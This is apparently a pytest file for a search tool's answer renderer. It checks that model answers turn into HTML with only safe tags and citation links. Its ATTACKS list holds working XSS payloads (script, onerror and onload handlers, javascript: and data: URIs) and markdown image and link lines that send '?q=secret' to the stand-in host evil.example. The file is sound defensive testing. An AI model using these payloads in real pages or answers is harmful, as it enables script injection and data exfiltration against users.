"""An answer's HTML has no link but its citations, and nothing that loads or runs (T30, T31, T35)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from search.markup import render

HREF = "/o/acme/documents/1/?page=2&start=3&end=9"
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[1](https://evil.example)",
    "[click][ref]\n\n[ref]: https://evil.example",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "<a href='/o/acme/documents/1/?page=2&start=3&end=9' onclick=x>y</a>",
    "<style>@import 'https://evil.example'</style>",
    "<iframe src=https://evil.example></iframe><form action=https://evil.example><input></form>",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "`<img src=x>`\n\n```html\n<img src=x onerror=alert(1)>\n```",
    "<!--><img src=x onerror=alert(1)>-->",
    "[1]: javascript:alert(1)",
]
SAFE_TAGS = """
p br strong em s code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td hr a
"""
SAFE = set(SAFE_TAGS.split())


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_becomes_markup(attack: str) -> None:
    for tag, attributes in Tags(render(f"Fine [1]. {attack}\n\n{attack}", {1: HREF})).found:
        assert tag in SAFE
        if tag == "a":
            assert attributes == {"class": "citation", "href": HREF, "data-n": "1"}
        else:
            assert attributes == {}


def test_a_mark_is_a_link_only_with_an_address() -> None:
    html = render("One [1], two [2].", {1: HREF})
    link = f'<a class="citation" href="{HREF.replace("&", "&amp;")}" data-n="1">[1]</a>'
    assert html == f"<p>One {link}, two [2].</p>\n"


@pytest.mark.parametrize(
    "href", ["https://evil.example", "//evil.example", "/\\evil.example", "javascript:x"]
)
def test_a_citation_never_leads_elsewhere(href: str) -> None:
    assert "<a" not in render("One [1].", {1: href})


def test_marks_in_code_and_in_tables() -> None:
    html = render("`a[1]`\n\n| a | b |\n|---|---|\n| **x** [1] | y |", {1: HREF})
    assert "<code>a[1]</code>" in html
    assert '<td><strong>x</strong> <a class="citation"' in html
